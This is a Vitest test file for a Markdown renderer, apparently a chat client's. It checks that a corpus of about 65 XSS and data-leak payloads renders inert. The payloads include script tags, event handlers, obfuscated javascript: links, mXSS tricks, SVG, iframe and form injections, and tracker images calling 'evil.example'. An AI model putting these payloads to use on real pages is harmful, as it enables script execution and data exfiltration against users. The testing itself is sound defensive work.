// @vitest-environment jsdom
import { describe, expect, test } from 'vitest';
import { createStreamingRenderer, renderMarkdown } from '../../../src/render';
import { expectInert, manualFrames, parse } from './render-test-kit';

/** Untrusted replies that try to run script, fetch, or keep a working dangerous link. */
const CORPUS: Record<string, string> = {
  scriptTag: '<script>alert(1)</script>',
  scriptInline: 'hello <script>alert(1)</script> world',
  scriptUpper: '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  imgOnerror: '<img src=x onerror=alert(1)>',
  imgOnerrorInline: 'text <img src=x onerror="alert(1)"> text',
  eventOnAllowedTag:
    '<b onclick="alert(1)">bold</b> <details open ontoggle=alert(1)><summary>s</summary></details>',
  customElement: '<x-widget onclick=alert(1)>hi</x-widget>',
  jsLink: '[click](javascript:alert(1))',
  jsLinkMixedCase: '[click](JaVaScRiPt:alert(1))',
  jsLinkEntity: '[click](&#106;avascript:alert(1))',
  jsLinkHexEntity: '[click](&#x6A;avascript&#x3A;alert(1))',
  jsLinkNamedEntity: '[click](javascript&colon;alert(1))',
  jsLinkSpaces: '[click](<  javascript:alert(1)>)',
  jsLinkAngle: '[click](<javascript:alert(1)>)',
  jsAutolink: '<javascript:alert(1)>',
  jsReference: '[click][r]\n\n[r]: javascript:alert(1)',
  dataLink: '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  vbscriptLink: '[click](vbscript:msgbox(1))',
  htmlJsLink: '<a href="javascript:alert(1)">x</a>',
  htmlJsLinkEntity:
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  htmlJsLinkTab:
    '<a href="java&Tab;script:alert(1)">x</a> <a href="jav&#x09;ascript:alert(1)">y</a>',
  htmlJsLinkControl: '<a href="&#14;javascript:alert(1)">x</a>',
  htmlLinkTargetSelf: '<a href="https://ok.example" target="_self" rel="opener">ok</a>',
  linkTitleBreakout: '[x](https://a.example "\\" onmouseover=\\"alert(1)")',
  svgOnload: '<svg onload=alert(1)><circle r=10 /></svg>',
  svgUse: '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCc+PC9zdmc+#x"/></svg>',
  svgUseXlink: '<svg><use xlink:href="https://evil.example/s.svg#x"/></svg>',
  svgScript: '<svg><script>alert(1)</script><image href="https://evil.example/i.png"/></svg>',
  svgForeignObject:
    '<svg><foreignObject><iframe src="https://evil.example"></iframe></foreignObject></svg>',
  mathMxss: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  noscriptMxss: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  iframe: '<iframe src="https://evil.example"></iframe>',
  iframeSrcdoc: '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  form: '<form action="https://evil.example"><input name=q><button formaction=javascript:alert(1)>go</button></form>',
  inputImage: '<input type=image src="https://evil.example/x.png">',
  object: '<object data="https://evil.example/x.swf"></object>',
  embed: '<embed src="https://evil.example/x.swf">',
  metaRefresh: '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  base: '<base href="https://evil.example/">',
  linkStylesheet: '<link rel="stylesheet" href="https://evil.example/x.css">',
  linkPrefetch: '<link rel=prefetch href="https://evil.example/?secret">',
  styleUrl: '<div style="background:url(https://evil.example/x.png)">x</div>',
  styleUrlQuoted: '<p style="background-image: url(\'https://evil.example/y\')">y</p>',
  styleTag:
    '<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example)}</style>',
  styleEscape: '<span style="background:u\\72l(https://evil.example)">z</span>',
  tableBackground:
    '<table background="https://evil.example/t.png"><tr><td background="https://evil.example/c.png">c</td></tr></table>',
  media:
    '<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4"></video><audio src="https://evil.example/a.mp3"></audio>',
  picture:
    '<picture><source srcset="https://evil.example/a.png"><img src="https://evil.example/b.png"></picture>',
  srcset: '<img srcset="https://evil.example/x.png 1x, https://evil.example/y.png 2x">',
  pingDownload: '<a href="https://ok.example" ping="https://evil.example/ping" download>ok</a>',
  comment: '<!--<img src=x onerror=alert(1)>-->visible',
  texHref: '$\\href{javascript:alert(1)}{click}$',
  texUrl: '$\\url{https://evil.example}$ and $$\\href{https://evil.example}{x}$$',
  texIncludegraphics: '$\\includegraphics{https://evil.example/x.png}$',
  texHtmlStyle:
    '$\\htmlStyle{background:url(https://evil.example)}{x}$ $\\htmlClass{x}{y}$ $\\htmlData{a=b}{c}$',
  codeFenceHtml: '```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```',
  codeSpanHtml: 'use `<script>alert(1)</script>` and `<img src=x onerror=alert(1)>`',
  remoteImage: '![tracker](https://evil.example/x.png?secret=abc)',
  remoteImageReference: '![a][img]\n\n[img]: https://evil.example/r.png',
  protocolRelativeImage: '![p](//evil.example/p.png)',
  svgDataImage: '![s](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+)',
  htmlDataImageSvg: '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  jsImage: '![j](javascript:alert(1))',
  entitiesAsText: '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;',
  rawTextElements:
    '<textarea><img src=x onerror=alert(1)></textarea><xmp><img src=x></xmp><title>t</title>',
  idClobbering: '<img name="cookie" id="location"><form id="x"></form>',
  nestedQuoteHtml: '> <img src=x onerror=alert(1)>\n> <script>alert(1)</script>',
  tableCellHtml:
    '| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | <a href="javascript:alert(1)">x</a> |',
};

const ALL = Object.values(CORPUS).join('\n\n');

describe('untrusted Markdown renders inert', () => {
  // Invariant 9: rendering untrusted text runs no script and loads nothing.
  test.each(Object.entries(CORPUS))('%s', (_name, markdown) => {
    const root = parse(renderMarkdown(markdown).html);
    expectInert(root);
  });

  // Invariant 9: rendering untrusted text runs no script and loads nothing.
  test('the whole corpus as one message, one-shot and streamed character by character', () => {
    const expected = renderMarkdown(ALL).html;
    expectInert(parse(expected));
    const container = document.createElement('div');
    const frames = manualFrames();
    const renderer = createStreamingRenderer(container, {
      scheduleFrame: frames.schedule,
      now: () => 0,
    });
    for (let i = 0; i < ALL.length; i += 7) {
      renderer.append(ALL.slice(i, i + 7));
      frames.run();
      expectInert(container);
    }
    renderer.finalize();
    expectInert(container);
    expect(container.innerHTML).toBe(expected);
    // Hundreds of jsdom checks: about 5 s alone, over 15 s beside a build. About safety, not speed.
  }, 60_000);
});

describe('what the dangerous parts become', () => {
  test('script and other tags are shown as text', () => {
    const root = parse(renderMarkdown(CORPUS.scriptInline!).html);
    expect(root.textContent).toContain('<script>alert(1)</script>');
  });

  test('unsafe links keep their text and lose the link', () => {
    for (const key of [
      'jsLink',
      'jsLinkEntity',
      'jsLinkHexEntity',
      'jsLinkNamedEntity',
      'dataLink',
      'vbscriptLink',
      'jsReference',
    ]) {
      const root = parse(renderMarkdown(CORPUS[key]!).html);
      expect(root.querySelector('a[href]'), key).toBeNull();
      expect(root.textContent, key).toContain('click');
    }
  });

  test('safe links open in a new tab without opener or referrer', () => {
    const root = parse(
      renderMarkdown(
        '[ok](https://ok.example/a?b=1&c=2) <https://auto.example> ' + CORPUS.htmlLinkTargetSelf,
      ).html,
    );
    const links = [...root.querySelectorAll('a')];
    expect(links.map((a) => a.getAttribute('href'))).toEqual([
      'https://ok.example/a?b=1&c=2',
      'https://auto.example',
      'https://ok.example',
    ]);
    for (const a of links) {
      expect(a.target).toBe('_blank');
      expect(a.rel).toBe('noopener noreferrer nofollow');
    }
  });

  test('a remote image becomes a click-to-load placeholder carrying its URL', () => {
    const root = parse(renderMarkdown(CORPUS.remoteImage!).html);
    expect(root.querySelector('img')).toBeNull();
    const button = root.querySelector('button.cove-md-image-placeholder')!;
    expect(button.getAttribute('data-image-src')).toBe('https://evil.example/x.png?secret=abc');
    expect(button.getAttribute('data-image-host')).toBe('evil.example');
    expect(button.getAttribute('data-image-alt')).toBe('tracker');
    expect(button.textContent).toContain('Load image from evil.example');
  });

  test('raw <img>, reference and protocol-relative images become placeholders too', () => {
    for (const markdown of [
      '<img src="https://evil.example/h.png" alt="h">',
      CORPUS.remoteImageReference!,
      CORPUS.protocolRelativeImage!,
    ]) {
      const root = parse(renderMarkdown(markdown).html);
      expect(root.querySelector('img')).toBeNull();
      expect(
        root.querySelector('button[data-image-src^="https://evil.example/"]'),
        markdown,
      ).not.toBeNull();
    }
  });

  test('raster data images stay inline; SVG and script images do not show', () => {
    const png =
      'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';
    const root = parse(renderMarkdown(`![dot](${png})`).html);
    expect(root.querySelector('img')!.getAttribute('src')).toBe(png);
    for (const key of ['svgDataImage', 'htmlDataImageSvg', 'jsImage']) {
      const blocked = parse(renderMarkdown(CORPUS[key]!).html);
      expect(blocked.querySelector('img, button'), key).toBeNull();
      expect(blocked.querySelector('.cove-md-image-blocked'), key).not.toBeNull();
    }
  });

  test('HTML in code fences and code spans is text', () => {
    const root = parse(renderMarkdown(CORPUS.codeFenceHtml!).html);
    expect(root.querySelector('pre code')!.textContent).toBe(
      '<script>alert(1)</script>\n<img src=x onerror=alert(1)>',
    );
    const spans = parse(renderMarkdown(CORPUS.codeSpanHtml!).html);
    expect([...spans.querySelectorAll('code')].map((c) => c.textContent)).toEqual([
      '<script>alert(1)</script>',
      '<img src=x onerror=alert(1)>',
    ]);
  });

  test('KaTeX \\href and \\url produce no link', () => {
    for (const key of ['texHref', 'texUrl', 'texIncludegraphics']) {
      const root = parse(renderMarkdown(CORPUS[key]!).html);
      expect(root.querySelector('a, img'), key).toBeNull();
    }
  });

  test('allowed formatting tags survive without their attributes', () => {
    const root = parse(
      renderMarkdown('<kbd>Ctrl</kbd>+<kbd>C</kbd>, H<sub>2</sub>O, x<sup>2</sup>').html,
    );
    expect(root.querySelectorAll('kbd')).toHaveLength(2);
    expect(root.querySelector('sub')!.textContent).toBe('2');
    const bold = parse(renderMarkdown(CORPUS.eventOnAllowedTag!).html).querySelector('b')!;
    expect(bold.attributes).toHaveLength(0);
  });
});

describe('the inertness check itself', () => {
  test.each([
    '<a href="javascript:alert(1)" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    '<a href="https://ok.example">no target</a>',
    '<img src="https://evil.example/x.png">',
    '<b onclick="alert(1)">x</b>',
    '<div style="background:url(https://evil.example)">x</div>',
    '<iframe></iframe>',
    '<svg><path d="M0 0"></path></svg>',
    '<img srcset="https://evil.example/x.png 1x">',
  ])('rejects %s', (html) => {
    expect(() => expectInert(parse(html))).toThrow();
  });
});
